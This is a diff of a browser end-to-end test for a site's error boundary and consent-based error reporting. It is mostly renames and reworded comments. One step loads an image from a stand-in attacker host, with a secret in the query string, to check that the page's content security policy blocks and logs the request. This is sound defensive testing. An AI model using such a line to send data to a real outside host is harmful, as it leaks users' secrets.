@@ -1,4 +1,7 @@
-/** A page that breaks in the browser: what the reader sees, what is sent, what stays. Spec 1 §2, §4; decision 26. */
+/**
+ * A page that breaks in the browser: what the reader sees, what is reported, what keeps working. Spec 1 §2, §4;
+ * decision 26.
+ */
 import type { Page } from '@playwright/test';
 import { expect as check, it } from 'vitest';
 import { open, type Visit } from '../support/browser.ts';
@@ -10,17 +13,17 @@ import { stored } from './walking.ts';
 const REPORTED = 'This error has been reported to ODB. We aplogize for the inconvenience.';
 const ADDRESS = '/api/error-recovery';
 
-const on = withBrowser();
-const { meet } = visitorsOf(on);
+const harness = withBrowser();
+const { newVisitor } = visitorsOf(harness);
 
 interface Reader extends Visit {
   /** The reports that left the browser. */
   readonly reports: Record<string, unknown>[];
 }
 
-/** A reader who has answered the question about error reports, not yet on a page. */
-async function reader(errorLogging: boolean): Promise<Reader> {
-  const visitor = await meet({ unasked: true });
+/** A reader who has answered the question about error reports, and has not opened a page yet. */
+async function newReader(errorLogging: boolean): Promise<Reader> {
+  const visitor = await newVisitor({ unasked: true });
   await visitor.context.addInitScript(
     (prefs) => {
       localStorage.setItem('gdprConsent', 'true');
@@ -35,15 +38,15 @@ async function reader(errorLogging: boolean): Promise<Reader> {
   return { ...visitor, reports };
 }
 
-/** Opens a reading and, once the page is idle and has loaded what it reports with, goes to one that breaks. */
-async function meetBreak(visitor: Reader): Promise<void> {
+/** Opens a reading, waits until the idle page has loaded the report code, and navigates to a reading that breaks. */
+async function openBrokenPage(visitor: Reader): Promise<void> {
   const { page } = visitor;
-  const prepared = page.waitForResponse(async (response) =>
+  const reportScript = page.waitForResponse(async (response) =>
     response.request().resourceType() === 'script' ? (await response.text()).includes(ADDRESS) : false,
   );
-  await open(visitor, `${on.stack.url}/2026/11/20`);
-  await prepared;
-  // The visit is counted when the page is idle, and reports tell it.
+  await open(visitor, `${harness.stack.url}/2026/11/20`);
+  await reportScript;
+  // The visit is counted when the page is idle; reports contain the count.
   await expect.poll(() => stored(page, 'numVisits')).toMatch(/^[14]$/);
   await page.route('**/graphql?*', async (route) => {
     const response = await route.fetch();
@@ -54,21 +57,21 @@ async function meetBreak(visitor: Reader): Promise<void> {
   await expect(page.getByRole('alert')).toBeVisible();
 }
 
-/** Rejects a promise outside of any page, as the code of a later part might. */
-const failOutside = (page: Page) =>
+/** Rejects a promise outside of any page, as a lazily loaded script might. */
+const rejectOutsidePage = (page: Page) =>
   page.evaluate(() => void setTimeout(() => void Promise.reject(new Error('outside'))));
 
-/** Complaints but those about the break itself, the rejected promise and the missing network. */
-const strays = ({ complaints }: Visit) =>
+/** Browser errors without those about the break itself, the rejected promise and the missing network. */
+const unexpectedErrors = ({ complaints }: Visit) =>
   complaints.filter(
     (text) => !/Objects are not valid|error #31|ERR_INTERNET_DISCONNECTED|outside|evil\.invalid/.test(text),
   );
 
-it('reports nothing without consent but what the reader sends, and says what was not sent', async () => {
+it('without consent reports only what the reader sends, and says what was not sent', async () => {
   // Fails without: web/errors/ErrorBoundary.tsx, `if (mayReport())`; web/errors/FallbackPage.tsx, the `texts`.
-  const visitor = await reader(false);
+  const visitor = await newReader(false);
   const { page, context, reports } = visitor;
-  await meetBreak(visitor);
+  await openBrokenPage(visitor);
   const alert = page.getByRole('alert');
   const send = page.getByRole('button', { name: 'Send a report' });
 
@@ -81,7 +84,7 @@ it('reports nothing without consent but what the reader sends, and says what was
   await expect(page.getByText(/Objects are not valid|error #31/).first()).toBeVisible();
   check(reports).toEqual([]);
 
-  // Without a network, and where the server is not reached: not sent, and it can be sent again.
+  // Without a network, or when the server does not respond, the report is not sent and can be sent again.
   await context.setOffline(true);
   await send.click();
   await expect(alert).toContainText('could not be sent');
@@ -92,35 +95,37 @@ it('reports nothing without consent but what the reader sends, and says what was
   await expect(page.getByRole('button', { name: 'Click to Reload' })).toBeFocused();
   const errorId = await page.getByText(/^ODB-[0-9a-f]{12}$/).textContent();
   check(reports).toMatchObject([{ errorId }, { errorId }]);
-  check(reports[1]).toEqual(reports[0]); // the same to the letter: the server may have had the first
-  const { db } = on.stack.program.services.local.get('error-recovery')!;
-  const filed = await db.rows('select error_id from error_recovery.report where error_id = $1', [errorId]);
-  check(filed).toEqual([{ error_id: errorId }]);
+  check(reports[1]).toEqual(reports[0]); // identical, because the server may have received the first one
+  const { db } = harness.stack.program.services.local.get('error-recovery')!;
+  const storedReports = await db.rows('select error_id from error_recovery.report where error_id = $1', [
+    errorId,
+  ]);
+  check(storedReports).toEqual([{ error_id: errorId }]);
 
-  // Another page is whole, this one is again once it loads.
+  // Another page works, and this one works again once it loads.
   await page.goBack();
   const title = page.getByRole('article').getByRole('heading', { level: 1 });
   await expect(title).toBeVisible();
-  await failOutside(page); // nor is an error outside of any page reported
+  await rejectOutsidePage(page); // an error outside of any page is not reported either
   await page.goForward();
   await expect(alert).toContainText('This error has not been reported.');
   await page.unrouteAll({ behavior: 'ignoreErrors' });
   await page.getByRole('button', { name: 'Click to Reload' }).click();
   await expect(title).toBeVisible();
   check(reports).toHaveLength(2);
-  check(strays(visitor)).toEqual([]);
+  check(unexpectedErrors(visitor)).toEqual([]);
 });
 
-it('reports a break with consent at once and in full, and stands when everything around the page breaks', async () => {
+it('with consent reports a break at once and in full, and shows an error page when the whole app breaks', async () => {
   // Fails without: web/errors/ErrorBoundary.tsx, `componentDidCatch`; web/app/App.tsx, the boundary around `WholeApp`.
-  const visitor = await reader(true);
+  const visitor = await newReader(true);
   const { page, context, reports } = visitor;
   await page.addInitScript(() => {
     if (localStorage.getItem('numVisits') !== null) return;
     localStorage.setItem('user_country', 'MX');
     localStorage.setItem('numVisits', '3');
   });
-  await meetBreak(visitor);
+  await openBrokenPage(visitor);
   await expect(page.getByRole('alert')).toContainText(REPORTED);
   await expect(page.getByRole('button', { name: 'Send a report' })).toHaveCount(0);
   check(reports).toHaveLength(1);
@@ -145,7 +150,7 @@ it('reports a break with consent at once and in full, and stands when everything
       email: null,
     },
     navigation: {
-      url: check.stringContaining(`${on.stack.url}/2026/11/19`),
+      url: check.stringContaining(`${harness.stack.url}/2026/11/19`),
       path: check.stringMatching(/^\/2026\/11\/19\/?$/),
       params: { date: '2026-11-19' },
       search: '',
@@ -165,20 +170,20 @@ it('reports a break with consent at once and in full, and stands when everything
     },
   });
 
-  // An error outside of any page is reported once, however often it comes, and the page stands.
+  // An error outside of any page is reported once, however often it occurs, and the page stays.
   await page.goBack();
   await expect(page.getByRole('article').first()).toBeVisible();
-  for (let times = 0; times < 3; times += 1) await failOutside(page);
+  for (let attempt = 0; attempt < 3; attempt += 1) await rejectOutsidePage(page);
   await expect.poll(() => reports.length).toBe(2);
   check(reports[1]).toMatchObject({ error: { message: 'outside' } });
 
-  // What the policy of the page stops is told to the site.
+  // Requests blocked by the policy of the page are reported to the site.
   await page.evaluate(() => {
     const image = new Image();
     image.src = 'http://evil.invalid/x.png?S3CRET';
     document.body.append(image);
   });
-  const { db } = on.stack.program.services.local.get('error-recovery')!;
+  const { db } = harness.stack.program.services.local.get('error-recovery')!;
   await expect
     .poll(() => db.rows('select day::text, directive, blocked, page, count from error_recovery.violation'))
     .toEqual([
@@ -186,14 +191,14 @@ it('reports a break with consent at once and in full, and stands when everything
         day: testNow().toISOString().slice(0, 10),
         directive: 'img-src',
         blocked: 'http://evil.invalid/x.png',
-        page: `${on.stack.url}/2026/11/20`,
+        page: `${harness.stack.url}/2026/11/20`,
         count: 1,
       },
     ]);
   check(reports).toHaveLength(2);
 
-  // The site's name is no text: the header breaks, and with it everything around the page. The server is not reached, nor
-  // the script that sends reports, at first.
+  // The site's name is an object instead of text: the header breaks, and with it the whole app. At first neither the
+  // server nor the script that sends reports can be loaded.
   await page.route(/\/2026\/11\/20\?override=ar$/, async (route) => {
     const response = await route.fetch();
     const text = await response.text();
@@ -201,13 +206,13 @@ it('reports a break with consent at once and in full, and stands when everything
   });
   await context.route(`**${ADDRESS}`, (route) => route.abort('internetdisconnected'));
   await context.route(/assets\/report-/, (route) => route.abort('internetdisconnected'));
-  await page.goto(`${on.stack.url}/2026/11/20?override=ar`);
+  await page.goto(`${harness.stack.url}/2026/11/20?override=ar`);
   const heading = page.getByRole('main').getByRole('heading', { level: 1 });
   await expect(heading).toHaveText('حدث خطأ ما : /');
   await expect(page.getByRole('banner')).toHaveCount(0);
   check(await heading.evaluate((element) => getComputedStyle(element).direction)).toBe('rtl');
   const send = page.getByRole('button', { name: 'إرسال تقرير' });
-  await send.click(); // the report that consent sent at once did not arrive, nor does this one
+  await send.click(); // neither the automatic report nor this one arrives
   await expect(page.getByRole('alert')).toBeVisible();
   await expect(send).toBeVisible();
   await context.unroute(/assets\/report-/);
@@ -218,5 +223,5 @@ it('reports a break with consent at once and in full, and stands when everything
   await send.click();
   await expect(send).toHaveCount(0);
   check(reports.at(-1)).toMatchObject({ errorId: await page.getByText(/^ODB-/).textContent() });
-  check(strays(visitor)).toEqual([]);
+  check(unexpectedErrors(visitor)).toEqual([]);
 });
